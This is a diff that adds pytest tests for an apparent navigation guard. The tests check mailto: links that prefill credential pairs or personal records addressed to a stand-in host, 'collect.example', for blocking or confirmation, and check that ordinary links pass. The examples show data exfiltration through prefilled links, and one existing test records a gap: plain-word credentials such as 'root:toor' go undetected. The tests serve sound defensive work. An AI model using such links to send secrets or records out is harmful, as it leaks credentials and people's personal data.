@@ -252,3 +252,23 @@ def test_ordinary_uploads_and_mentions_do_not_ask(path, label):
 def test_known_limit_plain_word_pairs_read_like_settings():
     # docs/known-limits.md: a list whose passwords are plain words is not recognised as credentials
     assert carried("root:toor\nadmin:admin") is None
+
+
+# -- a prefilled message: mailto: and sms: links ----------------------------------------------------------
+
+def test_a_mailto_link_that_prefills_a_credential_list_is_blocked():
+    a = nav("mailto:x@collect.example?subject=hi&body=svc%3AXk9!pq2L%0Aops%3ARb7%23ttw1")
+    assert a.decision is Decision.BLOCK and "block.web.data-out" in a.rules
+
+
+def test_a_mailto_link_that_prefills_records_asks():
+    body = "Carl%20Moe%2C%20carl%40shop.test%2C%20%2B1%20415%20555%200100%0ADina%20Roe%2C%20dina%40shop.test%2C" \
+           "%20%2B1%20415%20555%200111"
+    a = nav("mailto:x@collect.example?body=" + body)
+    assert a.decision is Decision.CONFIRM and "confirm.web.data-out" in a.rules
+
+
+@pytest.mark.parametrize("url", ["mailto:support@example.com?subject=Help&body=My%20order%20A-123%20is%20late",
+                                 "mailto:team@example.com"])
+def test_an_ordinary_mailto_link_is_allowed(url):
+    assert nav(url).decision is Decision.ALLOW
